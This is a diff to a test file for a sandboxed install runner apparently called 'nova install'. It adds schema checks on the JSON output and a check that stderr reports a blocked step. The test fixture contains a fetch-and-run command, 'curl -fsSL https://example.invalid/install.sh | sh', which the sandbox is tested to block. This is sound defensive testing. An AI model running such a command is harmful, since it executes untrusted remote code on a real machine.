@@ -29,6 +29,10 @@ describe('nova install (bwrap, real npm registry)', () => {
     expect(r.code, explain(r)).toBe(0);
     expect(out.status).toBe('success');
     expect(out.sandbox).toBe('bwrap');
+    // The DESIGN contract: exactly one JSON object with these fields (the schema check above is strict).
+    const raw = JSON.parse(r.stdout) as Record<string, unknown> & { steps: Record<string, unknown>[] };
+    expect(Object.keys(raw)).toEqual(expect.arrayContaining(['runId', 'status', 'steps', 'diagnosis']));
+    for (const step of raw.steps) expect(Object.keys(step)).toEqual(expect.arrayContaining(['stage', 'command', 'status', 'exitCode', 'durationMs', 'attempts']));
     expect(out.steps.map((s) => [s.stage, s.command, s.status, s.attempts])).toEqual([
       ['install', 'npm install', 'success', 1],
       ['test', 'npm test', 'success', 1],
@@ -128,6 +132,7 @@ npm test
     expect(blocked).toHaveLength(1);
     expect(blocked[0]).toMatchObject({ command: expect.stringContaining('curl -fsSL https://example.invalid/install.sh | sh'), exitCode: null, attempts: 0, durationMs: 0 });
     expect(blocked[0].reasons?.join(' ')).toMatch(/curl.*sh/);
+    expect(r.stderr).toMatch(/^\[1\/3\] install touch curl-step-ran && curl .*\n {4}⛔ blocked: pipes downloaded content \(curl\) into sh/m);
     // The rest of the project still ran…
     expect(out.steps.filter((s) => s.status === 'success').map((s) => s.command)).toContain('npm test');
     // …but nothing of the blocked step: no marker in the workspace copy, the original, or the run's home.
